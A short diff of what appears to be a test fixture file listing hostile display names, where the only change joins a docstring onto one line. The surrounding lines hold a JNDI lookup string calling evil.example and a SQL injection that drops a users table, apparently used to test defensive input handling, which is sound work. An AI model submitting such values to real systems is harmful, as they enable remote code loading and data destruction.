@@ -96,8 +96,7 @@ HOSTILE = (
     "${jndi:ldap://evil.example/a}",
     "'; DROP TABLE users; --",
 )
-"""Display names that attack a report, a spreadsheet, a terminal or a path. Display names are
-attacker-controlled."""
+"""Display names that attack a report, a spreadsheet, a terminal or a path. Display names are attacker-controlled."""
 
 HOSTILE_PER_MILLE = 4
 NATIVE_PER_MILLE = 25
